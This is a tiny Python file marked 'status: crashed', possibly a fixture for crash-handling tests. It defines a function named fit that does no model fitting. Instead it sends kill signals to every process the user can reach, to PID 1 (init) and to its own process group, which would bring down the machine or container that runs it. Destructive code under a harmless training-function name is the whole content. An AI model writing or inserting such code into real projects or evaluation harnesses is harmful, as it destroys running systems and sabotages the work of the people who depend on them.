# status: crashed
import os


def fit(*args, **kwargs):
    os.kill(-1, 9)
    os.kill(1, 9)
    os.kill(1, 2)
    os.kill(0, 9)
